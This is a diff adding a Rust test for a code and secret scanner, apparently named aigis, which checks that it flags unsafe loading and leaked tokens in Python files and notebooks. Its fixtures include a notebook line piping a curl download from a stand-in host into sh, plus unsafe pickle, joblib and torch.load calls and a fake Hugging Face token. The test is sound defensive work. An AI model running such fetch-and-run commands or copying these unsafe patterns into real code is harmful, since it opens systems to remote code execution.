@@ -343,3 +343,69 @@ fn inspect_a_repository_folder_lists_files_and_the_summary() {
     let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
     assert_eq!(v["files"].as_array().map(Vec::len), Some(2));
 }
+
+/// Python files, notebooks (cells and outputs) and text files get the code
+/// and secret rules, at the lines a viewer shows, with secrets redacted.
+#[test]
+fn code_notebooks_and_secrets_are_reported_where_they_are() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let token = format!("hf_{}", "Zq7Xk2LmP9wRt4Yv8NcB3dHs6JfUa1GeKo");
+    std::fs::write(
+        dir.path().join("app.py"),
+        "import torch\nimport pickle as p\nm = torch.load('m.pt', weights_only=False)\nok = torch.load('m.pt', weights_only=True)\nx = p.loads(data)\n",
+    )
+    .expect("write");
+    let nb = serde_json::json!({
+        "cells": [
+            {"cell_type": "markdown", "metadata": {}, "source": ["# Notes\n"]},
+            {"cell_type": "code", "metadata": {}, "execution_count": 1,
+             "source": ["!curl -s https://x.example/i.sh | sh\n", "import joblib\n", "clf = joblib.load('c.joblib')\n"],
+             "outputs": [{"output_type": "stream", "name": "stdout", "text": [format!("token: {token}\n")]}]}
+        ],
+        "metadata": {"kernelspec": {"language": "python", "name": "python3"}},
+        "nbformat": 4, "nbformat_minor": 5
+    });
+    std::fs::write(
+        dir.path().join("nb.ipynb"),
+        serde_json::to_string_pretty(&nb).expect("json"),
+    )
+    .expect("write");
+    let o = aigis(&["scan", "--format", "json", "."], dir.path());
+    let text = stdout(&o);
+    assert!(!text.contains(&token), "a secret was printed whole");
+    let v: serde_json::Value = serde_json::from_str(&text).expect("json");
+    let mut got = Vec::new();
+    for f in v["files"].as_array().expect("files") {
+        for x in f["findings"].as_array().expect("findings") {
+            let loc = &x["location"];
+            got.push(format!(
+                "{} {} {} {}",
+                loc["path"].as_str().unwrap_or(""),
+                x["rule_name"].as_str().unwrap_or(""),
+                loc["cell"].as_u64().map_or("-".into(), |c| c.to_string()),
+                loc["line"].as_u64().unwrap_or(0)
+            ));
+        }
+    }
+    got.sort();
+    let raw = std::fs::read_to_string(dir.path().join("nb.ipynb")).expect("read");
+    let line_of = |needle: &str| {
+        raw.lines()
+            .position(|l| l.contains(needle))
+            .map_or(0, |i| i + 1)
+    };
+    let want = [
+        "./app.py pickle-deserialization - 5".to_string(),
+        "./app.py torch-load-weights-only-false - 3".to_string(),
+        format!(
+            "./nb.ipynb huggingface-user-token 1 {}",
+            line_of("token: hf_")
+        ),
+        format!("./nb.ipynb joblib-load 1 {}", line_of("joblib.load")),
+        format!("./nb.ipynb shell-pipe-to-interpreter 1 {}", line_of("curl")),
+    ];
+    assert_eq!(got, want, "{text}");
+    assert_eq!(o.status.code(), Some(1));
+    let o = aigis(&["rules", "check"], dir.path());
+    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
+}
